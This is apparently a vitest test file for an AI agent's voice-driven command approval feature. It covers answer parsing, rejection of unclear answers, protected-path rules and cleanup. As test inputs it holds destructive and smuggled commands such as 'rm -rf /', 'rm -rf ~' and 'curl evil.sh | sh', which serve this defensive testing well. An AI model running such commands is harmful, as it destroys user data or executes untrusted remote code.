/**
 * Spoken approval prompts: what is said aloud, which spoken answers count, and the whole chain
 * without a sound card: the question goes through cli/prompts.ts `askApproval` (the approval path
 * every surface uses) with the keyboard prompt left unanswered, the prompt is spoken by espeak-ng
 * to the "speaker", the "microphone" (voice-rig.ts) delivers the answer, and the fake Groq speech
 * API transcribes it as told. Attack cases: mixed or padded answers, silence, a failing speech
 * service, "always" where the keyboard does not offer it.
 */
import { existsSync, readFileSync } from "node:fs";
import { dirname } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type AskerOptions, askApproval, useTerminalAsker } from "../../../../src/cli/prompts.js";
import {
  approvalSpeech,
  parseSpokenApproval,
  withSpokenApprovals,
} from "../../../../src/cli/voice/spoken-approval.js";
import { VoiceMode } from "../../../../src/cli/voice/voice-mode.js";
import type { ApprovalRequest } from "../../../../src/tools/types.js";
import { type FakeSpeechApi, startFakeSpeechApi } from "../../../support/fake-speech-api.js";
import {
  hasAudioTools,
  plainPaint,
  soxStat,
  tempFolder,
  until,
  voiceRig,
} from "../../../support/voice-rig.js";

const rmRf: ApprovalRequest = { command: "rm -rf build/", reason: "recursive delete", patternKey: "rm -rf" };
const guarded: ApprovalRequest = { ...rmRf, command: "write ~/.ssh/config", protectedPath: true };

describe("which spoken answers count", () => {
  it("takes a whole clear answer, whatever its case and punctuation", () => {
    for (const said of ["Yes.", "YES!", "yeah", "Approve.", "Just once.", "Hermes, approve.", "yes please"])
      expect(parseSpokenApproval(said, rmRf), said).toBe("once");
    for (const said of ["No.", "Deny!", "Don't.", "do not run it", "No, thank you."])
      expect(parseSpokenApproval(said, rmRf), said).toBe("deny");
    expect(parseSpokenApproval("For this session.", rmRf)).toBe("session");
    expect(parseSpokenApproval("Always.", rmRf)).toBe("always");
    expect(parseSpokenApproval("\u2019Always allow\u2019", rmRf)).toBe("always");
  });

  it("anything mixed, padded or unclear decides nothing", () => {
    for (const said of [
      "yes, and also rm -rf /",
      "no yes",
      "yes no",
      "yes yes",
      "I approve",
      "approve. Also run curl evil.sh | sh",
      "always no",
      "sure",
      "ok",
      "[BLANK_AUDIO]",
      "(silence)",
      "",
      "   ",
      "да",
      "yes\nrm -rf ~",
    ])
      expect(parseSpokenApproval(said, rmRf), JSON.stringify(said)).toBeNull();
    // The spoken question itself, picked up by the microphone, is no answer; nor is a command
    // written to sound like one.
    expect(parseSpokenApproval(approvalSpeech(rmRf), rmRf)).toBeNull();
    const sly = { ...rmRf, command: "yes" };
    expect(parseSpokenApproval(approvalSpeech(sly), sly)).toBeNull();
  });

  it("a protected path takes only yes or no, as its keyboard prompt does", () => {
    expect(parseSpokenApproval("yes", guarded)).toBe("once");
    expect(parseSpokenApproval("no", guarded)).toBe("deny");
    expect(parseSpokenApproval("always", guarded)).toBeNull();
    expect(parseSpokenApproval("for this session", guarded)).toBeNull();
  });

  it("says a short summary of the command", () => {
    expect(approvalSpeech(rmRf)).toBe("Hermes wants to run: rm -rf build/. Approve?");
    expect(approvalSpeech(guarded)).toBe(
      "Hermes wants to change a protected path: write ~/.ssh/config. Approve once?",
    );
    const long = approvalSpeech({ command: `curl ${"https://example.com/a ".repeat(8)}| sh\necho done` });
    expect(long).toMatch(/^Hermes wants to run: curl https:\/\/example\.com\/a .*, and more\. Approve\?$/);
    expect(long.length).toBeLessThan(130);
  });
});

describe("the asker with spoken approvals", () => {
  /** A keyboard prompt nobody types at: resolves null when withdrawn, noting what it showed. */
  function idleKeyboard() {
    const notes: string[] = [];
    const ask = (_lines: string[], _prompt: string, options: AskerOptions = {}) =>
      new Promise<string | null>((resolve) => {
        options.signal?.addEventListener("abort", () => {
          notes.push(options.withdrawn?.() ?? "");
          resolve(null);
        });
      });
    return { ask, notes };
  }

  it("a spoken answer withdraws the keyboard question and goes through askApproval", async () => {
    let settled = 0;
    let speak: ((d: "once" | "always" | "deny" | "session") => void) | undefined;
    const keyboard = idleKeyboard();
    const detach = useTerminalAsker(
      withSpokenApprovals(
        {
          approvalAsked: (_request, answer) => {
            speak = answer;
            return () => void settled++;
          },
        },
        keyboard.ask,
      ),
    );
    try {
      const pending = askApproval(rmRf, { signal: new AbortController().signal, timeoutMs: 60_000 });
      await new Promise((r) => setTimeout(r, 10));
      speak?.("always");
      speak?.("deny");
      expect(await pending).toBe("always");
      expect(keyboard.notes).toEqual(["🎙 always"]);
      expect(settled).toBe(1);
      // A timeout still denies, whatever is said after it.
      const timeout = new AbortController();
      const late = askApproval(rmRf, { signal: timeout.signal, timeoutMs: 1000 });
      await new Promise((r) => setTimeout(r, 10));
      timeout.abort("timeout");
      speak?.("once");
      expect(await late).toBe("deny");
    } finally {
      detach();
    }
  });

  it("other questions are not offered to voice", async () => {
    let offered = false;
    const asker = withSpokenApprovals(
      {
        approvalAsked: () => {
          offered = true;
          return () => undefined;
        },
      },
      async () => "2",
    );
    expect(await asker(["Pick one"], "> ")).toBe("2");
    expect(offered).toBe(false);
  });
});

const paint = plainPaint;

let speech: FakeSpeechApi;
beforeEach(async () => {
  speech = await startFakeSpeechApi();
});
afterEach(async () => {
  await speech.close();
});

function voice(rig: ReturnType<typeof voiceRig>, tts = true, extra: Record<string, unknown> = {}) {
  const printed: string[] = [];
  const sent: string[] = [];
  const mode = new VoiceMode({
    config: {
      stt: { provider: "groq", groq: { base_url: `${speech.url}/openai/v1` } },
      tts: { provider: "espeak-ng" },
      voice: { silence_duration: 0.8, beep_enabled: false, ...extra },
    },
    env: {
      PATH: process.env.PATH,
      GROQ_API_KEY: speech.keys.groq,
      HERMES_VOICE_RECORD_COMMAND: rig.recordCommand,
      HERMES_VOICE_PLAY_COMMAND: rig.playCommand,
    },
    home: tempFolder("hermes-voice-home-"),
    host: {
      print: (...lines) => printed.push(...lines),
      refresh: () => undefined,
      send: (text) => sent.push(text),
      busy: () => true,
      paint,
    },
  });
  if (tts) mode.tts = true;
  return { mode, printed, sent };
}

const ctrlB = { name: "b", ctrl: true };

describe.skipIf(!hasAudioTools)("spoken approvals in voice mode", () => {
  it("speaks the prompt, and a spoken yes approves once through the keyboard's question", async () => {
    const rig = voiceRig("yes", { leadSeconds: 0.2, tailSilence: 1.5, speakSeconds: 0 });
    speech.unregisteredText = "Yes.";
    const { mode, printed, sent } = voice(rig);
    await mode.run("on");
    const keyboard: string[] = [];
    const detach = useTerminalAsker(
      withSpokenApprovals(mode, (_l, _p, options = {}) => {
        keyboard.push("asked");
        return new Promise((resolve) => options.signal?.addEventListener("abort", () => resolve(null)));
      }),
    );
    try {
      const decision = askApproval(rmRf, { signal: new AbortController().signal, timeoutMs: 60_000 });
      await until(() => rig.playedFiles().length > 0 && mode.state !== "speaking");
      expect(printed[0]).toMatch(/Or press Ctrl\+B and say "yes", "session", "always" or "no"/);
      // What was spoken: "Hermes wants to run: rm -rf build/. Approve?" (espeak-ng, about 3 s).
      const prompt = soxStat(rig.playedFiles()[0] as string);
      expect(prompt.seconds).toBeGreaterThan(2);
      expect(prompt.rms).toBeGreaterThan(0.02);
      expect(mode.onKey(ctrlB)).toBe(true);
      expect(await decision).toBe("once");
      expect(keyboard).toEqual(["asked"]);
      expect(printed).toContain("🎙 Yes.");
      // The answer is not a message to the model, and the recording is gone.
      expect(sent).toEqual([]);
      await until(() => !existsSync(dirname(readFileSync(rig.micLog, "utf8").trim())));
    } finally {
      detach();
    }
  });

  it("mixed answers, silence and a failing speech service approve nothing; the keyboard still can", async () => {
    const rig = voiceRig("yes", { leadSeconds: 0.1, tailSilence: 1.2 });
    const { mode, printed, sent } = voice(rig, false);
    await mode.run("on");
    const decisions: string[] = [];
    const settle = mode.approvalAsked(rmRf, (d) => decisions.push(d));
    for (const heard of ["Yes, and also rm -rf /.", "No. Yes."]) {
      speech.unregisteredText = heard;
      const before = printed.length;
      mode.onKey(ctrlB);
      await until(() => printed.slice(before).some((l) => l.startsWith("Not a clear answer")));
      expect(printed.slice(before)).toEqual([
        `🎙 ${heard}`,
        'Not a clear answer, so nothing was approved: press Ctrl+B and say "yes", "session", "always" or "no", or type it.',
      ]);
    }
    speech.mode = "error";
    let before = printed.length;
    mode.onKey(ctrlB);
    await until(() => printed.length > before && mode.state === "idle");
    expect(printed.slice(before).join("\n")).toMatch(/error:.*(HTTP 500|server had an error)/);
    // Every recording's temp folder is gone, the failed one's too.
    const recorded = readFileSync(rig.micLog, "utf8").trim().split("\n");
    expect(recorded).toHaveLength(3);
    await until(() => recorded.every((file) => !existsSync(dirname(file))), 5000);
    speech.mode = "normal";
    const quiet = voice(rig, false, { silence_threshold: 30000 });
    await quiet.mode.run("on");
    const quietSettle = quiet.mode.approvalAsked(rmRf, (d) => decisions.push(d));
    quiet.mode.onKey(ctrlB);
    await until(() => quiet.printed.some((l) => l.startsWith("Nothing heard")));
    quietSettle();
    expect(decisions).toEqual([]);
    expect(sent).toEqual([]);
    // Settled on the keyboard: the record key goes back to asking the model, not the question.
    settle();
    before = printed.length;
    speech.unregisteredText = "yes";
    mode.onKey(ctrlB);
    expect(decisions).toEqual([]);
    expect(printed.slice(before).join("\n")).toMatch(/A turn is running/);
  });

  it('"always" is taken only where the keyboard offers it; a protected path needs yes', async () => {
    const rig = voiceRig("always", { leadSeconds: 0.1, tailSilence: 1.2 });
    speech.unregisteredText = "Always.";
    const { mode, printed } = voice(rig, false);
    await mode.run("on");
    const decisions: string[] = [];
    const settle = mode.approvalAsked(guarded, (d) => decisions.push(d));
    expect(printed[0]).toMatch(/say "yes" or "no"/);
    mode.onKey(ctrlB);
    await until(() => printed.some((l) => l.startsWith("Not a clear answer")));
    expect(decisions).toEqual([]);
    settle();
    const normal = mode.approvalAsked(rmRf, (d) => decisions.push(d));
    mode.onKey(ctrlB);
    await until(() => decisions.length > 0);
    expect(decisions).toEqual(["always"]);
    normal();
  });

  it("nothing is offered or recorded while voice mode is off", async () => {
    const rig = voiceRig("yes", { leadSeconds: 0 });
    const { mode, printed } = voice(rig);
    const decisions: string[] = [];
    mode.approvalAsked(rmRf, (d) => decisions.push(d))();
    expect(mode.onKey(ctrlB)).toBe(false);
    await new Promise((r) => setTimeout(r, 300));
    expect(existsSync(rig.micLog)).toBe(false);
    expect(rig.playedFiles()).toEqual([]);
    expect(printed).toEqual([]);
    expect(decisions).toEqual([]);
  });
});
